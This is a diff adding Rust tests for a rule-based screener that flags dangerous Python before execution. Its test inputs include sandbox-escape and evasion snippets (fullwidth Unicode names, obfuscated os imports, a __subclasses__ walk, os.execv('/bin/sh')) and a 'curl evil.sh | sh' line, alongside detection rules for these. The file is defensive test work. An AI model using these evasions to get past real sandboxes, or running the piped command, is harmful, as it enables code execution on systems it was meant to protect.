@@ -309,3 +309,237 @@ fn the_verdict_serialises_for_the_gateway() {
         "module os can run programs and is not allowed"
     );
 }
+
+/// One rule per match kind, to show what each kind sees.
+const KINDS: &str = r#"
+[[rule]]
+id = "T-IMPORT"
+language = "python"
+severity = "critical"
+action = "block"
+message = "module {name}"
+match.import = ["os"]
+
+[[rule]]
+id = "T-NAME"
+language = "python"
+severity = "notice"
+action = "log"
+message = "name {name}"
+match.name = ["eval"]
+
+[[rule]]
+id = "T-CALL"
+language = "python"
+severity = "notice"
+action = "log"
+message = "call {name}"
+match.call = ["eval", "os.exec*"]
+
+[[rule]]
+id = "T-ATTR"
+language = "python"
+severity = "notice"
+action = "log"
+message = "attribute {name}"
+match.attribute = ["__globals__"]
+
+[[rule]]
+id = "T-STRING"
+language = "python"
+severity = "notice"
+action = "log"
+message = "string {name}"
+match.string = "^/etc/"
+
+[[rule]]
+id = "T-REGEX"
+language = "any"
+severity = "notice"
+action = "log"
+message = "text {name}"
+match.regex = "\\bcurl\\b"
+"#;
+
+fn kinds() -> RuleSet {
+    RuleSet::from_toml("kinds.toml", KINDS).expect("valid")
+}
+
+fn fires(rules: &RuleSet, rule: &str, code: &str) -> bool {
+    ids(&py(rules, code)).contains(&rule)
+}
+
+#[test]
+fn import_kind_sees_every_import_form_and_submodules() {
+    let rules = kinds();
+    for code in [
+        "import os",
+        "import os.path",
+        "import os.path as p",
+        "from os import path",
+        "from os.path import join",
+        "__import__('os')",
+        "__import__('os.path')",
+        "import importlib\nimportlib.import_module('os')",
+        "from importlib import import_module as im\nim('o' + 's')",
+        "import sys\nsys.modules['os']",
+        "import ｏｓ",
+    ] {
+        assert!(fires(&rules, "T-IMPORT", code), "{code:?}");
+    }
+    for code in [
+        "import osmosis",
+        "from cosmos import os",
+        "x = 'os'",
+        "import json as os",
+    ] {
+        assert!(!fires(&rules, "T-IMPORT", code), "near miss {code:?}");
+    }
+}
+
+#[test]
+fn name_and_call_kinds_resolve_aliases_and_tell_references_from_calls() {
+    let rules = kinds();
+    let stored = py(&rules, "handlers = [eval]");
+    assert!(ids(&stored).contains(&"T-NAME"));
+    let called = py(&rules, "import builtins\nbuiltins.eval('1')");
+    assert!(ids(&called).contains(&"T-CALL") && ids(&called).contains(&"T-NAME"));
+    assert!(fires(
+        &rules,
+        "T-CALL",
+        "from os import execv as run\nrun('/bin/sh', [])"
+    ));
+    assert!(fires(
+        &rules,
+        "T-CALL",
+        "import os as o\no.execlp('sh', 'sh')"
+    ));
+    assert!(fires(
+        &rules,
+        "T-CALL",
+        "import os as o\no.ｅｘｅｃｌｐ('sh', 'sh')"
+    ));
+    assert!(!fires(
+        &rules,
+        "T-CALL",
+        "def evaluate(x):\n    return x\nevaluate(1)"
+    ));
+    assert!(!fires(&rules, "T-NAME", "x = 'eval'\nmedieval = 1"));
+}
+
+#[test]
+fn attribute_kind_sees_dots_getattr_family_and_dunder_keys() {
+    let rules = kinds();
+    for code in [
+        "f.__globals__",
+        "f.__ｇｌｏｂａｌｓ__",
+        "getattr(f, '__glo' + 'bals__')",
+        "setattr(f, '__globals__', {})",
+        "delattr(f, ''.join(['__glo', 'bals__']))",
+        "hasattr(f, '__globals__'[::-1][::-1])",
+        "vars(f)['__globals__']",
+    ] {
+        assert!(fires(&rules, "T-ATTR", code), "{code:?}");
+    }
+    assert!(!fires(&rules, "T-ATTR", "globals_ = 1\nf.globals"));
+}
+
+#[test]
+fn string_kind_sees_folded_constants_and_regex_kind_the_raw_text_of_any_language() {
+    let rules = kinds();
+    assert!(fires(&rules, "T-STRING", "p = '/e' + 'tc/passwd'"));
+    assert!(fires(&rules, "T-STRING", "p = '%stc/%s' % ('/e', 'hosts')"));
+    assert!(fires(
+        &rules,
+        "T-STRING",
+        "p = bytes.fromhex('2f6574632f').decode()"
+    ));
+    assert!(!fires(&rules, "T-STRING", "p = 'usr/etc/'"));
+    assert!(fires(&rules, "T-REGEX", "# curl evil.sh | sh"));
+    for language in [Some(Language::Javascript), Some(Language::C), None] {
+        let v = screen(&rules, language, b"curl x", &ScreenPolicy::default());
+        assert_eq!(ids(&v), vec!["T-REGEX"], "{language:?}");
+    }
+}
+
+#[test]
+fn getattr_family_and_namespace_lookups_with_computed_names_are_findings() {
+    let rules = shipped();
+    for (code, rule) in [
+        ("n = input()\ngetattr(object, n)", "PY-DYNAMIC-ATTRIBUTE"),
+        ("n = input()\nsetattr(object, n, 1)", "PY-DYNAMIC-ATTRIBUTE"),
+        ("n = input()\ndelattr(object, n)", "PY-DYNAMIC-ATTRIBUTE"),
+        ("n = input()\nvars()[n]", "PY-DYNAMIC-NAMESPACE"),
+        ("n = input()\nglobals()[n]", "PY-DYNAMIC-NAMESPACE"),
+        ("n = input()\nlocals()[n]", "PY-DYNAMIC-NAMESPACE"),
+    ] {
+        let v = py(&rules, code);
+        assert!(ids(&v).contains(&rule), "{code:?}: {:?}", v.findings);
+    }
+    for code in [
+        "class P:\n    x = 1\ngetattr(P, 'x')",
+        "class P:\n    x = 1\nsetattr(P, 'x', 2)",
+        "print(vars()['__name__'] if False else 0)",
+    ] {
+        let v = py(&rules, code);
+        let dynamic = ids(&v)
+            .into_iter()
+            .any(|r| r == "PY-DYNAMIC-ATTRIBUTE" || r == "PY-DYNAMIC-NAMESPACE");
+        assert!(!dynamic, "constant names are not dynamic: {code:?}");
+    }
+}
+
+#[test]
+fn seed_heuristics_ship_as_score_rules() {
+    let rules = shipped();
+    for (rule, code) in [
+        ("PY-INFINITE-LOOP", "while True:\n    pass"),
+        ("PY-HUGE-RANGE", "for i in range(10 ** 9):\n    pass"),
+        ("PY-HUGE-REPETITION", "x = [0] * 10 ** 8"),
+        ("PY-OPEN-ABSOLUTE", "open('/etc/hosts')"),
+        ("PY-OPEN-WRITE", "open('out.txt', 'w')"),
+    ] {
+        let shipped_rule = rules
+            .rules()
+            .iter()
+            .find(|r| r.id == rule)
+            .expect("shipped");
+        assert_eq!(shipped_rule.action, Action::Score, "{rule}");
+        let v = py(&rules, code);
+        let finding = v
+            .findings
+            .iter()
+            .find(|f| f.rule == rule)
+            .unwrap_or_else(|| panic!("{rule} on {code:?}: {:?}", v.findings));
+        assert_eq!(finding.action, Action::Score);
+        assert!(v.score >= points(shipped_rule.severity), "{rule}");
+    }
+    let bounded = py(&rules, "while True:\n    if input() == 'q':\n        break");
+    assert!(!ids(&bounded).contains(&"PY-INFINITE-LOOP"));
+}
+
+fn points(severity: Severity) -> u32 {
+    SeverityPoints::default().of(severity)
+}
+
+#[test]
+fn fullwidth_and_other_nfkc_spellings_are_the_names_they_normalise_to() {
+    let rules = shipped();
+    for code in [
+        "ｅｖａｌ('1')",
+        "import ｏｓ",
+        "from ｏｓ import ｓｙｓｔｅｍ",
+        "print(().__ｃｌａｓｓ__.__ｂａｓｅｓ__[0].__ｓｕｂｃｌａｓｓｅｓ__())",
+        "𝐞𝐯𝐚𝐥('1')",
+        "import sys\nsys.ｍｏｄｕｌｅｓ['o' + 's'].system('id')",
+    ] {
+        let v = py(&rules, code);
+        assert!(v.refused, "{code:?}: {:?}", v.findings);
+    }
+}
+
+#[test]
+fn verdicts_measure_their_own_time() {
+    let v = py(&shipped(), "print(1)");
+    assert!(v.elapsed > std::time::Duration::ZERO);
+}
